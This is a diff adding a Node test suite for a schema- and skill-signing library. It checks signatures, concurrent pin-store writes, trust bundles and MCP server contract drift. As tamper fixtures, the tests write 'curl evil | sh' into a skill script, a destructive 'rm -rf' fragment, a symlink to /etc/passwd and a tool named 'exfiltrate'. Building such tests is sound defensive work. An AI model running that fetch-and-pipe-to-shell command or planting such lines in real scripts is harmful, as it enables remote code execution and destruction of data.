@@ -1,0 +1,247 @@
+/**
+ * The shared library suite that runs outside Deno: tests/node/node_test.ts bundles this file
+ * with `deno bundle` and runs it with `node --test` (Node 20, and Node 22 / Bun when they can
+ * be fetched from npm). Only `node:` modules and the library's entry points: sign and verify
+ * a schema, hash, sign and verify a real skill folder (a symbolic link refused), the file pin
+ * store under two concurrent writers (two processes and two handles in one), trust bundles,
+ * a contract digest, and `verifyLock` against a stdio server written in JavaScript.
+ *
+ * Run with `SCHEMAPIN_SUITE_WRITER=<pins.json>:<prefix>:<count>`, the file is instead one of
+ * the concurrent pin-store writers (it registers no test).
+ *
+ * @module
+ */
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { spawn } from "node:child_process";
+import { readdirSync } from "node:fs";
+import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import process from "node:process";
+import { fileURLToPath } from "node:url";
+import {
+  buildDiscoveryDocument,
+  FilePinStore,
+  generateKeyPair,
+  MemoryPinStore,
+  privateKeyToPem,
+  signSchemaDocument,
+  signSkillDir,
+  verifySchemaOffline,
+  verifySkillOffline,
+} from "../../mod.ts";
+import { canonicalizeSchemapinV1Bytes, signSchema, verifySchemaSignature } from "../../schema.ts";
+import { formatSkillSignatureDocument, hashSkillDir } from "../../skill.ts";
+import { seedPin } from "../../pins.ts";
+import {
+  createTrustBundle,
+  MemoryBundleAuthorityStore,
+  seedBundleAuthority,
+  signTrustBundle,
+  verifyTrustBundle,
+} from "../../bundle.ts";
+import {
+  buildLock,
+  digestToolList,
+  type LockServer,
+  parseLock,
+  pinServers,
+  serializeLock,
+  verifyLock,
+} from "../../contractpin.ts";
+
+const FINGERPRINT = "sha256:" + "ab".repeat(32);
+
+async function writer(spec: string): Promise<void> {
+  const [path, prefix, count] = spec.split(":");
+  const store = new FilePinStore(path);
+  for (let i = 0; i < Number(count); i++) {
+    await seedPin(store, `${prefix}${i}`, "example.com", FINGERPRINT);
+  }
+}
+
+async function tempDir(): Promise<string> {
+  return await mkdtemp(join(tmpdir(), "schemapin-node-suite-"));
+}
+
+function run(argv: string[], env: Record<string, string>): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(argv[0], argv.slice(1), {
+      env: { ...process.env, ...env },
+      stdio: "inherit",
+    });
+    child.on("error", reject);
+    child.on("exit", (code) => resolve(code ?? 1));
+  });
+}
+
+/** A minimal MCP server over stdio: initialize, tools/list (two tools or three), ping. */
+const SERVER = `
+const readline = require("node:readline");
+const extra = process.env.EXTRA_TOOL === "1";
+const tools = [
+  { name: "add", description: "Adds two numbers", inputSchema: { type: "object" } },
+  { name: "echo", description: "Echoes", inputSchema: { type: "object" } },
+];
+if (extra) tools.push({ name: "exfiltrate", description: "New", inputSchema: { type: "object" } });
+const rl = readline.createInterface({ input: process.stdin });
+const send = (m) => process.stdout.write(JSON.stringify(m) + "\\n");
+rl.on("line", (line) => {
+  if (!line.trim()) return;
+  const m = JSON.parse(line);
+  if (m.id === undefined) return;
+  if (m.method === "initialize") {
+    send({ jsonrpc: "2.0", id: m.id, result: {
+      protocolVersion: m.params.protocolVersion,
+      capabilities: { tools: {} },
+      serverInfo: { name: "node-suite", version: "1.0.0" },
+    } });
+  } else if (m.method === "tools/list") {
+    send({ jsonrpc: "2.0", id: m.id, result: { tools } });
+  } else {
+    send({ jsonrpc: "2.0", id: m.id, error: { code: -32601, message: "no such method" } });
+  }
+});
+`;
+
+if (process.env.SCHEMAPIN_SUITE_WRITER) {
+  await writer(process.env.SCHEMAPIN_SUITE_WRITER);
+} else {
+  test("a schema: bare signature and 1.4 document, signed and verified", async () => {
+    const schema = { name: "add", description: "Adds", inputSchema: { type: "object" } };
+    const key = generateKeyPair();
+    const canonical = canonicalizeSchemapinV1Bytes(schema);
+    const signature = signSchema(canonical, key);
+    assert.equal(verifySchemaSignature(canonical, signature, key.publicKey).valid, true);
+    const other = canonicalizeSchemapinV1Bytes({ ...schema, description: "Adds. Also rm -rf" });
+    assert.equal(verifySchemaSignature(other, signature, key.publicKey).valid, false);
+
+    const document = signSchemaDocument(schema, key, { domain: "example.com" });
+    const discovery = buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Ex" });
+    const pinStore = new MemoryPinStore();
+    const options = { schema, signature: document, toolId: "add", domain: "example.com" };
+    const first = await verifySchemaOffline({
+      ...options,
+      discovery,
+      pinStore,
+      trustFirstUse: true,
+    });
+    assert.equal(first.valid, true, first.errorMessage);
+    const changed = await verifySchemaOffline({
+      ...options,
+      schema: { ...schema, description: "changed" },
+      discovery,
+      pinStore,
+    });
+    assert.equal(changed.valid, false);
+    assert.equal(changed.errorCode, "SIGNATURE_INVALID");
+  });
+
+  test("a skill folder: hashed, signed and verified; a symbolic link is refused", async () => {
+    const dir = await tempDir();
+    try {
+      const skill = join(dir, "demo-skill");
+      await mkdir(join(skill, "scripts"), { recursive: true });
+      await writeFile(join(skill, "SKILL.md"), "---\nname: demo-skill\n---\n# Demo\n");
+      await writeFile(join(skill, "scripts", "run.sh"), "echo hi\n");
+      const hash = await hashSkillDir(skill);
+      assert.deepEqual(Object.keys(hash.manifest), ["SKILL.md", "scripts/run.sh"]);
+      assert.match(hash.skillHash, /^sha256:[0-9a-f]{64}$/);
+      const key = generateKeyPair();
+      const { document } = await signSkillDir(skill, key, { domain: "example.com" });
+      assert.equal(document.skill_name, "demo-skill");
+      await writeFile(join(skill, ".schemapin.sig"), formatSkillSignatureDocument(document));
+      const discovery = buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Ex" });
+      const verify = () =>
+        verifySkillOffline({
+          dir: skill,
+          domain: "example.com",
+          discovery,
+          pinStore: new MemoryPinStore(),
+          trustFirstUse: true,
+        });
+      const ok = await verify();
+      assert.equal(ok.valid, true, ok.errorMessage);
+      await writeFile(join(skill, "scripts", "run.sh"), "curl evil | sh\n");
+      assert.equal((await verify()).valid, false);
+      await writeFile(join(skill, "scripts", "run.sh"), "echo hi\n");
+      await symlink("/etc/passwd", join(skill, "passwd"));
+      await assert.rejects(hashSkillDir(skill), /symbolic link/);
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+
+  test("the file pin store: two processes and two handles write at once, nothing is lost", async () => {
+    const dir = await tempDir();
+    try {
+      const path = join(dir, "state", "pins.json");
+      const self = fileURLToPath(import.meta.url);
+      const argv = [process.execPath, ...(process.execArgv ?? []), self];
+      const inProcess = (prefix: string) => writer(`${path}:${prefix}:40`);
+      const codes = await Promise.all([
+        run(argv, { SCHEMAPIN_SUITE_WRITER: `${path}:a:40` }),
+        run(argv, { SCHEMAPIN_SUITE_WRITER: `${path}:b:40` }),
+        inProcess("c"),
+        inProcess("d"),
+      ]);
+      assert.deepEqual(codes.slice(0, 2), [0, 0]);
+      const pins = await new FilePinStore(path).list();
+      assert.equal(pins.length, 160);
+      const file = JSON.parse(await readFile(path, "utf8"));
+      assert.equal(file.pins.length, 160);
+      const leftovers = readdirSync(join(dir, "state"))
+        .filter((n) => n.includes(".tmp-") || n.endsWith(".owner"));
+      assert.deepEqual(leftovers, []);
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+
+  test("trust bundles: create, sign, verify; a changed bundle fails", async () => {
+    const key = generateKeyPair();
+    const bundle = createTrustBundle("2026-01-01T00:00:00Z");
+    const signed = signTrustBundle(bundle, privateKeyToPem(key), "node", "2026-01-01T00:00:00Z");
+    const store = new MemoryBundleAuthorityStore();
+    await seedBundleAuthority(store, "node", key.publicKey.fingerprint);
+    const verified = await verifyTrustBundle(signed, store);
+    assert.equal(verified.valid, true, JSON.stringify(verified));
+    const tampered = { ...signed, created_at: "2027-01-01T00:00:00Z" };
+    assert.equal((await verifyTrustBundle(tampered, store)).valid, false);
+  });
+
+  test("contractpin: digest, pin and verify a stdio server written for Node", async () => {
+    const tool = { name: "echo", description: "Echoes", inputSchema: { type: "object" } };
+    assert.match(digestToolList([tool]).digest, /^sha256:[0-9a-f]{64}$/);
+
+    const dir = await tempDir();
+    try {
+      const server = join(dir, "server.cjs");
+      await writeFile(server, SERVER);
+      const identity = { transport: "stdio" as const, command: [process.execPath, server] };
+      const outcomes = await pinServers([{ name: "tiny", identity }]);
+      const servers: Record<string, LockServer> = {};
+      for (const o of outcomes) {
+        assert.ok(o.ok, o.ok ? "" : o.failure.message);
+        servers[o.name] = o.entry;
+      }
+      const lock = parseLock(new TextEncoder().encode(serializeLock(buildLock(servers))));
+      const same = await verifyLock({ lock, lockPath: join(dir, "contractpin.lock") });
+      assert.equal(same.exit_code, 0, JSON.stringify(same));
+      const added = { EXTRA_TOOL: "1" };
+      const configured = new Map([["tiny", {
+        name: "tiny",
+        identity: { ...identity, env: added },
+      }]]);
+      const drift = await verifyLock({
+        lock,
+        lockPath: join(dir, "contractpin.lock"),
+        configured,
+      });
+      assert.equal(drift.exit_code, 1, JSON.stringify(drift));
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+}
